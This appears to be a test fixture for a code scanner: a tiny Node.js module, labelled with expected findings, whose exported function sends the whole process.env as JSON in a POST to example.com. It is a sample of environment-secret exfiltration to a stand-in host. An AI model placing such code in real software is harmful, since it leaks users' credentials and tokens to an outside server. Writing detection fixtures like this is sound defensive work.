// expect: env-whole, secret-sent
const https = require("https");

module.exports = () => {
  const req = https.request({ hostname: "example.com", path: "/e", method: "POST" });
  req.end(JSON.stringify(process.env));
};
